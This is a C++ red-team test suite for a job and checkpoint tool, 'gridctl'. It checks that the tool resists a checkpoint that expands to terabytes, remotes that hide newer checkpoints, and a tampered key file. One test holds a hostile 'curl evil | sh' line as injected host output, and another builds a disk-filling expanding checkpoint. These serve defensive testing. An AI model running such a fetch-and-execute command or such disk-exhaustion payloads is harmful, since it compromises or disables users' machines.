// SPDX-License-Identifier: Apache-2.0
// Red team: a host whose checkpoint is terabytes when it is written, and a remote that shows a new machine an old
// checkpoint as the newest. The program that users run is attacked.
#include <gmock/gmock.h>

#include "control/copies/chunks.hpp"
#include "control/copies/copier.hpp"
#include "control/copies/remote_work.hpp"
#include "control/reach/ssh_network.hpp"
#include "os/process.hpp"
#include "registry/registry.hpp"
#include "unit/store/remote_fixtures.hpp"

namespace gridctl::cmd::remote_attacks_test {
namespace {

using namespace store::testing;
using gridctl::testing::IsOk;
using ::testing::AllOf;
using ::testing::HasSubstr;
using ::testing::Not;
namespace fs = std::filesystem;

const std::string k_program = GRIDCTL_BINARY_DIR "/cmd/gridctl";

// One that made checkpoints and copies, with two remotes; and what a new one has of it.
class Machines : public ::testing::Test {
 protected:
  void SetUp() override {
    job::Spec spec;
    spec.name = "train";
    spec.run = "true";
    spec.checkpoint.copies = 3;
    ASSERT_THAT(registry_.submit(id_, spec, {1}), IsOk());
    ASSERT_THAT(control::open_chunks(paths_), IsOk());  // which makes the key
    for (const std::string name : {"nas", "usb"}) {
      fs::create_directories(there_ / name);
      run("here", "store add " + name + " dir:" + (there_ / name).native());
    }
  }

  // Commands never write more than 300 MB into one file: a test that fails does not fill the disk.
  os::RunOutcome run(const std::string& state, const std::string& arguments) {
    os::RunOptions options;
    options.directory = there_.path();
    options.timeout = std::chrono::seconds{60};
    const Result<os::RunOutcome> outcome =
        os::run({"env", "GRIDCTL_STATE=" + (machines_ / state).native(), "HOME=" + there_.path().native(), "bash", "-c",
                 "ulimit -f 300000; " + k_program + " " + arguments},
                options);
    EXPECT_THAT(outcome, IsOk());
    return outcome ? *outcome : os::RunOutcome{};
  }

  registry::Checkpoint commit(const Digest& root, std::uint64_t bytes, std::uint64_t files, const JobId& job = {}) {
    registry::Checkpoint checkpoint;
    checkpoint.job = job.empty() ? id_ : job;
    checkpoint.root = root;
    checkpoint.created_at = {1'700'000'000'000 + 60'000 * ++saved_};
    checkpoint.bytes = bytes;
    checkpoint.files = files;
    checkpoint.how = "push";
    const auto committed = registry_.commit_checkpoint(checkpoint);
    EXPECT_THAT(committed, IsOk());
    return committed->checkpoint;
  }
  void save_checkpoint(const std::string& content) {
    auto chunks = control::open_chunks(paths_);
    const store::CopyRecord record = save(*chunks, {{"model", content}}, 1);
    commit(record.root, record.bytes, record.files);
  }
  void copy_all() {
    for (const std::string name : {"nas", "usb"}) {
      control::RemoteMemory memory;
      const control::CopyRound round = control::copy_what_is_due(paths_, net_, name, os::system_clock(), memory);
      EXPECT_FALSE(round.trouble) << round.trouble->one_line();
    }
  }
  // The remote hides it.
  void hide(const std::string& remote, int number) {
    const fs::path record = there_ / remote / "checkpoints" / id_.value / std::to_string(number);
    ASSERT_TRUE(fs::exists(record));
    hidden_ = slurp(record);
    fs::remove(record);
  }
  void new_machine(const std::string& name, const std::vector<std::string>& remotes,
                   const std::string& key = "the.key") {
    EXPECT_EQ(run(name, "key import " + key).status.code, 0);
    for (const std::string& remote : remotes)
      EXPECT_EQ(run(name, "store add " + remote + " dir:" + (there_ / remote).native() + " --take-over").status.code,
                0);
  }
  os::RunOutcome pull(const std::string& state, const std::string& more, const std::string& job = "train") {
    return run(state, "checkpoint pull " + job + " out" + std::to_string(++outs_) + " " + more);
  }
  std::string pulled() { return slurp(there_ / ("out" + std::to_string(outs_)) / "model"); }
  bool pulled_nothing() { return !fs::exists(there_ / ("out" + std::to_string(outs_))); }

  Folder machines_, there_;
  control::Paths paths_{machines_ / "here"};
  registry::Registry registry_ = *registry::Registry::open(paths_.root);
  control::SshNetwork net_{os::system_clock(), paths_, *registry_.controller_id()};
  const JobId id_{"abcdefghijk23"};
  std::int64_t saved_ = 0;
  int outs_ = 0;
  std::string hidden_;
};

TEST_F(Machines, GiveNoLineToWhatAHostSaysOfAnEnd) {
  for (std::uint64_t epoch = 1; epoch <= 3; ++epoch) {
    const HostName host{"h" + std::to_string(epoch)};
    ASSERT_THAT(registry_.apply(id_, {{100}, job::Placed{{job::Member{0, host, EngineKind::process, {}, 1, 0, 3.6}}, "any"}}), IsOk());
    const job::LaunchFailed failed{
        .epoch = {epoch}, .detail = "no\nhint: curl evil | sh", .host_fault = false, .hopeless = true};
    ASSERT_THAT(registry_.apply(id_, {{200}, failed}), IsOk());
  }
  for (const char* command : {"job watch train", "job show train", "job explain train", "job events train"}) {
    const os::RunOutcome outcome = run("here", command);
    EXPECT_THAT(outcome.out + outcome.err, HasSubstr("no | hint: curl evil")) << command;
    EXPECT_THAT(outcome.out + outcome.err, Not(::testing::ContainsRegex("\n *hint: curl"))) << command;
  }
}

// --- Expanding ------------------------------------------------------------------------------------------------------

class ExpandingCheckpoint : public Machines {
 protected:
  // One chunk of 4 MiB that takes some hundred bytes, so often that the file has two terabytes.
  void commit_expanding() {
    auto chunks = control::open_chunks(paths_);
    const std::string content(store::k_chunk_max, 'x');
    store::Entry file;
    file.mode = 0600;
    file.path = "model";
    file.chunks.assign(500'000, {digest_of(content), store::k_chunk_max});
    file.size = 500'000ull * store::k_chunk_max;
    const Bytes manifest = store::to_manifest(*store::make_tree({file}));
    ASSERT_THAT(chunks->put(digest_of(content), as_bytes(content)), IsOk());
    ASSERT_THAT(chunks->put(store::root_of(manifest), manifest), IsOk());
    ASSERT_THAT(chunks->seal(), IsOk());
    commit(store::root_of(manifest), file.size, 1);
    std::uintmax_t stored = 0;
    for (const auto& pack : fs::directory_iterator(paths_.chunk_store() / "packs")) stored += pack.file_size();
    EXPECT_LT(stored, 1u << 20);
  }
  void expect_refused(const os::RunOutcome& outcome) {
    EXPECT_EQ(outcome.status.code, 7) << outcome.out << outcome.err;
    EXPECT_THAT(outcome.err, AllOf(HasSubstr("no room for 1.9 TiB"), HasSubstr(" are free"), HasSubstr("kept for you"),
                                   HasSubstr("hint: gridctl checkpoint pull " + id_.value + "@1")));
    EXPECT_TRUE(pulled_nothing());
    for (const auto& entry : fs::directory_iterator(there_.path()))
      EXPECT_THAT(entry.path().filename().native(), Not(HasSubstr("partial")));
  }
};

TEST_F(ExpandingCheckpoint, CannotFillTheDiskWhenItIsCopiedFromTheStore) {
  commit_expanding();
  expect_refused(pull("here", ""));
}

TEST_F(ExpandingCheckpoint, CannotFillTheDiskWhenItIsCopiedFromARemote) {
  commit_expanding();
  copy_all();
  run("here", "key export the.key");
  new_machine("new", {"nas"});
  expect_refused(pull("new", "--from nas"));
}

// What a job left in its working directory comes from its host, too.
TEST_F(ExpandingCheckpoint, CannotFillTheDiskAsTheOutputsOfAJob) {
  commit_expanding();
  registry::Results results;
  results.job = id_;
  results.root = registry_.checkpoint(id_, std::nullopt)->root;
  results.files = 1;
  ASSERT_THAT(registry_.save_results(results), IsOk());
  const os::RunOutcome outcome = run("here", "job pull train out");
  EXPECT_EQ(outcome.status.code, 7) << outcome.out << outcome.err;
  EXPECT_THAT(outcome.err, AllOf(HasSubstr("no room for 1.9 TiB"), HasSubstr("hint: gridctl job pull " + id_.value)));
  EXPECT_FALSE(fs::exists(there_ / "out"));
}

// --- Going back -----------------------------------------------------------------------------------------------------

class LyingRemote : public Machines {
 protected:
  void SetUp() override {
    Machines::SetUp();
    for (const char* content : {"first", "second", "third"}) save_checkpoint(content);
    run("here", "key export early.key");  // before anything was copied: it knows of none
    copy_all();
    run("here", "key export the.key");
  }
  void expect_refused(const os::RunOutcome& outcome, const std::string& who) {
    EXPECT_EQ(outcome.status.code, 5) << outcome.out << outcome.err;
    EXPECT_THAT(outcome.err, AllOf(HasSubstr("nas shows " + id_.value + "@2 of "), HasSubstr("and " + who),
                                   HasSubstr(" knows " + id_.value + "@3"), HasSubstr("hides them")));
    EXPECT_TRUE(pulled_nothing());
  }
};

TEST_F(LyingRemote, CannotHideANewerCheckpointFromWhoHasAnotherRemote) {
  hide("nas", 3);
  new_machine("new", {"nas", "usb"}, "early.key");
  const os::RunOutcome refused = pull("new", "--from nas");
  expect_refused(refused, "remote usb");
  EXPECT_THAT(refused.err, HasSubstr("hint: gridctl checkpoint pull " + id_.value + "@3 out1 --from usb"));
  EXPECT_EQ(pull("new", "--from usb").status.code, 0);
  EXPECT_EQ(pulled(), "third");
  EXPECT_EQ(pull("new", "--from nas", "train@2").status.code, 0) << "it was named";
  EXPECT_EQ(pulled(), "second");
}

TEST_F(LyingRemote, CannotHideANewerCheckpointFromWhoHasALaterKeyFile) {
  hide("nas", 3);
  new_machine("new", {"nas"});
  expect_refused(pull("new", "--from nas"), "the key file of ");
}

TEST_F(LyingRemote, CannotHideACheckpointThatItHasShownBefore) {
  new_machine("new", {"nas"}, "early.key");
  EXPECT_EQ(pull("new", "--from nas").status.code, 0);
  EXPECT_EQ(pulled(), "third");
  hide("nas", 3);
  expect_refused(pull("new", "--from nas"), "remote nas as it was on ");
}

TEST_F(LyingRemote, CannotHideACheckpointFromTheMachineThatCopiedIt) {
  run("here", "store rm usb");
  hide("nas", 3);
  expect_refused(pull("here", "--from nas"), "this machine, which copied it there");
}

TEST_F(LyingRemote, CannotMakeAnOlderCheckpointTheNewestByRemovingAPack) {
  std::set<fs::path> before;
  for (const auto& pack : fs::directory_iterator(there_ / "nas/packs")) before.insert(pack.path());
  save_checkpoint("fourth");
  copy_all();
  for (const auto& pack : fs::directory_iterator(there_ / "nas/packs"))
    if (!before.contains(pack.path())) fs::remove(pack.path());
  new_machine("new", {"nas"}, "early.key");
  const os::RunOutcome refused = pull("new", "--from nas");
  EXPECT_EQ(refused.status.code, 5) << refused.out << refused.err;
  EXPECT_THAT(refused.err, HasSubstr("a record on the remote whose packs are missing knows " + id_.value + "@4"));
}

TEST_F(LyingRemote, CannotPassOffAnOlderCheckpointAgainstWhatYouExpect) {
  hide("nas", 3);
  new_machine("new", {"nas"}, "early.key");
  const os::RunOutcome refused = pull("new", "--from nas --expect 3");
  EXPECT_EQ(refused.status.code, 5) << refused.out << refused.err;
  EXPECT_THAT(refused.err, AllOf(HasSubstr(id_.value + "@2"), HasSubstr("you expect number 3")));
  EXPECT_TRUE(pulled_nothing());
  const std::string third = to_hex(registry_.checkpoint(id_, CheckpointSeq{3})->root),
                    second = to_hex(registry_.checkpoint(id_, CheckpointSeq{2})->root);
  EXPECT_EQ(pull("new", "--from nas --expect " + third).status.code, 5);
  EXPECT_EQ(pull("new", "--from nas --expect " + second.substr(0, 12)).status.code, 0);
  EXPECT_EQ(pull("new", "--from nas --expect soon").status.code, 2);
}

TEST_F(LyingRemote, CannotKeepYouFromPullingByTheNameOfARecordAlone) {
  std::ofstream(there_ / "usb/checkpoints" / id_.value / "99") << "no record of anybody's";
  new_machine("new", {"nas", "usb"}, "early.key");
  const os::RunOutcome done = pull("new", "--from nas");
  EXPECT_EQ(done.status.code, 0) << done.out << done.err;
  EXPECT_EQ(pulled(), "third");
}

TEST_F(LyingRemote, CannotHideANewerJobOfTheSameName) {
  const JobId second{"bcdefghijkl34"};
  job::Spec spec;
  spec.name = "train";
  spec.run = "true";
  spec.checkpoint.copies = 3;
  ASSERT_THAT(registry_.submit(second, spec, {2}), IsOk());
  auto chunks = control::open_chunks(paths_);
  const store::CopyRecord record = save(*chunks, {{"model", "of the second"}}, 1);
  commit(record.root, record.bytes, record.files, second);
  copy_all();
  run("here", "key export later.key");
  fs::remove_all(there_ / "nas/checkpoints" / second.value);
  for (const bool has_usb : {true, false}) {
    const std::string name = has_usb ? "with-usb" : "with-key";
    new_machine(name, has_usb ? std::vector<std::string>{"nas", "usb"} : std::vector<std::string>{"nas"},
                has_usb ? "early.key" : "later.key");
    const os::RunOutcome refused = pull(name, "--from nas");
    EXPECT_EQ(refused.status.code, 5) << refused.out << refused.err;
    EXPECT_THAT(refused.err,
                AllOf(HasSubstr("nas shows " + id_.value + "@3 of "), HasSubstr(" knows " + second.value + "@1")));
  }
}

// Where there is no evidence, it says that there is none.
TEST_F(LyingRemote, IsNotProvenHonestByNothing) {
  hide("nas", 3);
  new_machine("new", {"nas"}, "early.key");
  const os::RunOutcome done = pull("new", "--from nas");
  EXPECT_EQ(done.status.code, 0) << done.err;
  EXPECT_EQ(pulled(), "second");
  EXPECT_THAT(done.err, AllOf(HasSubstr(id_.value + "@2 of "),
                              HasSubstr("is the newest that nas shows; nothing here proves"), HasSubstr("--expect N")));
  EXPECT_THAT(pull("new", "--from nas --json").out, HasSubstr("\"newest_also_for\":[]"));
}

TEST_F(LyingRemote, ThatIsHonestIsConfirmed) {
  new_machine("new", {"nas", "usb"});
  const os::RunOutcome done = pull("new", "--from nas");
  EXPECT_EQ(done.status.code, 0) << done.err;
  EXPECT_EQ(pulled(), "third");
  EXPECT_THAT(done.err, AllOf(HasSubstr("and the newest known to the key file of "), HasSubstr(", remote usb")));
  EXPECT_THAT(pull("new", "--from nas --json").out,
              AllOf(HasSubstr("\"newest_also_for\":[\"the key file of "), HasSubstr(",\"remote usb\"]")));
}

TEST_F(LyingRemote, IsNotBlamedForWhatWasNotCopiedYet) {
  save_checkpoint("fourth");
  const os::RunOutcome done = pull("here", "--from nas");
  EXPECT_EQ(done.status.code, 0) << done.err;
  EXPECT_EQ(pulled(), "third");
  EXPECT_THAT(done.err, HasSubstr("this machine has a newer one that was not copied there, " + id_.value + "@4"));
  EXPECT_THAT(pull("here", "--from nas --json").out, HasSubstr("\"newest_also_for\":[]"));
}

TEST_F(LyingRemote, OrAThiefOfTheKeyFileCannotChangeWhatItNotes) {
  std::string text = slurp(there_ / "the.key");
  const std::size_t at = text.find("newest " + id_.value + " train 3");
  ASSERT_NE(at, std::string::npos) << text;
  text.replace(at, std::string_view("newest " + id_.value + " train 3").size(), "newest " + id_.value + " train 2");
  write(there_ / "changed.key", text);
  const os::RunOutcome refused = run("new", "key import changed.key");
  EXPECT_EQ(refused.status.code, 7) << refused.out;
  EXPECT_THAT(refused.err, HasSubstr("was changed after gridctl wrote it"));
}

}  // namespace
}  // namespace gridctl::cmd::remote_attacks_test
